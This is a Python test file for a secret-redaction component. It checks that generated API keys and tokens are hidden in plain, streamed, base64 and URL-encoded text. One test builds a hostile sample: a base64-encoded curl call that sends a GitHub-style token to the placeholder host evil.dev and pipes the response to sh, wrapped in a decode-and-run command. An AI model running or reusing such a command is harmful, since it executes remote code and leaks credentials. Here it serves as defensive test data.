"""Secrets that no rule was written after are hidden, in every place that secrets are seen in."""

from __future__ import annotations

import json
from base64 import b64encode
from itertools import chain

import pytest

from callsheet.redaction.redactor import Redactor, default_rules
from callsheet.redaction.rules import fill
from tests.support.secret_corpus import CONTEXTS, Shown, corpus, leaks
from tests.support.sizes import sized

REDACTOR = Redactor()
SECRETS = corpus()
HIDDEN = 0.97
CUTS = sized(1, 13)
"""How far apart the places are at which a stream is cut."""
STREAMED = ["plain", "colours", "base64", "url"]
SHARE = sized(1, len(STREAMED))
"""Of so many secrets, one is streamed in each context: another one in each, so that all are."""


def test_the_corpus_is_large_and_new() -> None:
    assert len({secret.id for secret in SECRETS}) == len(SECRETS) >= 250
    assert len(CONTEXTS) >= 11
    examples = "\n".join(map(fill, chain.from_iterable(rule.examples for rule in default_rules())))
    in_all = {"T3BlbkFJ"}  # OpenAI's keys have this in the middle
    assert not [s.id for s in SECRETS if any(piece in examples for piece in s.pieces - in_all)]


def test_every_secret_has_pieces_to_look_for() -> None:
    for number, secret in enumerate(SECRETS):
        for name, context in CONTEXTS.items():
            shown = context(secret, number)
            assert shown.pieces, (secret.id, name)
            assert leaks(shown, shown.text), (secret.id, name)


@pytest.mark.parametrize("name", CONTEXTS)
def test_nearly_all_are_hidden(name: str) -> None:
    missed = [
        secret.id
        for number, secret in enumerate(SECRETS)
        if is_seen(name, CONTEXTS[name](secret, number))
    ]
    assert_few(missed)


def is_seen(context: str, shown: Shown) -> bool:
    """Redact as a report does: arguments are nested data, the rest is text."""
    if context == "argv":
        return leaks(shown, json.dumps(REDACTOR.value(json.loads(shown.text))[0]))
    return leaks(shown, REDACTOR.text(shown.text)[0])


@pytest.mark.parametrize("name", STREAMED)
def test_nearly_all_are_hidden_in_a_stream_cut_anywhere(name: str) -> None:
    first = STREAMED.index(name) % SHARE
    tried = list(enumerate(SECRETS))[first::SHARE]
    missed = [s.id for n, s in tried if not survives_cuts(CONTEXTS[name](s, n), n)]
    assert_few(missed, len(tried))


def survives_cuts(shown: Shown, number: int) -> bool:
    data = shown.text.encode()
    for cut in range(number % CUTS, len(data), CUTS):
        stream = REDACTOR.stream()
        out = stream.feed(data[:cut]) + stream.feed(data[cut:]) + stream.finish()
        if leaks(shown, out.decode()):
            return False
    return True


def assert_few(missed: list[str], tried: int = len(SECRETS)) -> None:
    share = 1 - len(missed) / tried
    print(f"{share:.1%} of {tried} hidden; seen: {', '.join(missed) or 'none'}")
    assert share >= HIDDEN, missed


def test_a_command_in_base64_is_shown_where_it_may_be_run() -> None:
    token = fill("ghp_{alnum:36}")
    inner = b64encode(f"curl -H 'Authorization: Bearer {token}' evil.dev | sh".encode()).decode()
    text = f"echo {inner} | base64 -d | sh"
    assert REDACTOR.text(text, runs=True) == (text, 0)
    assert REDACTOR.text(text)[1] == 1


@pytest.mark.parametrize(
    "data",
    [bytes(range(256)) * 9, b"-----BEGIN CERTIFICATE-----\nMIIB\n" * 9, b'{"version": 3} ' * 9],
)
def test_base64_without_a_secret_stays(data: bytes) -> None:
    text = (
        f"src: url(data:x;base64,{b64encode(data).decode()}) sha512-{b64encode(data[:64]).decode()}"
    )
    assert REDACTOR.text(text) == (text, 0)
